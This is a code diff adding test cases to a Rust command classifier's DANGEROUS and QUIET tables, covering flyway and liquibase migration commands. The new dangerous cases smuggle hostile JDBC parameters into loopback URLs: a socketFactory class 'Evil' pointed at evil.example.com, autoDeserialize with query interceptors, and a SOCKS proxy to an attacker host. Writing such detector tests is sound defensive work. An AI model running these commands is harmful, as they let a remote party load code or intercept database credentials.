@@ -1041,6 +1041,28 @@ const DANGEROUS: &[(&str, &str)] = &[
         "production",
         r##"./gradlew flywayMigrate -Pflyway.url=jdbc:mysql://10.2.0.7:3306/app"##,
     ),
+    // A loopback JDBC URL whose parameters load a class, go through a proxy or let the
+    // server run code is not this machine's database.
+    (
+        "remote",
+        r##"./mvnw flyway:migrate "-Dflyway.url=jdbc:postgresql://localhost:5432/x?socketFactory=org.example.Evil&socketFactoryArg=evil.example.com" -Dflyway.password=hunter2"##,
+    ),
+    (
+        "remote",
+        r##"flyway -url=jdbc:postgresql://localhost:5432/x?sslfactory=org.example.F -password=hunter2 migrate"##,
+    ),
+    (
+        "remote",
+        r##"liquibase --url=jdbc:postgresql://127.0.0.1/x?socketFactory=a --password=pw update"##,
+    ),
+    (
+        "remote",
+        r##"flyway "-url=jdbc:mysql://localhost:3306/x?autoDeserialize=true&queryInterceptors=x" -password=pw migrate"##,
+    ),
+    (
+        "remote",
+        r##"flyway -url=jdbc:mysql://localhost/x?socksProxyHost=evil.example.com -password=pw migrate"##,
+    ),
     (
         "production",
         r##"liquibase --url jdbc:postgresql://db.acme.internal/app update"##,
@@ -1855,6 +1877,14 @@ const QUIET: &[(&str, &str)] = &[
     ("remote", r##"nc -z -w 2 redis 6379"##),
     ("remote", r##"until nc -z postgres 5432; do sleep 1; done"##),
     ("remote", r##"ncat -z 127.0.0.1 8080"##),
+    (
+        "remote",
+        r##"flyway "-url=jdbc:postgresql://localhost:5432/app?sslmode=disable&currentSchema=public" -password=pw migrate"##,
+    ),
+    (
+        "remote",
+        r##"./mvnw flyway:migrate -Dflyway.url=jdbc:postgresql://localhost:5432/app?ApplicationName=x -Dflyway.password=pw"##,
+    ),
     (
         "supply-chain",
         r##"ansible-galaxy install -r requirements.yml"##,
